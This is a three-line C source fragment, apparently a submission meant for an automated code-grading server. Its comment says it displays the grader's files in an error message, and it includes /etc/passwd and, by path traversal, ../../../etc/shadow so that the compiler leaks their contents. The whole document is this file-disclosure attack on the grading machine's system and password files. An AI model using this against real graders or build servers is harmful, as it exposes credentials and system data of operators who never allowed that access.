// Shows the grading machine's files in an error message.
#include "/etc/passwd"
#include "../../../etc/shadow"
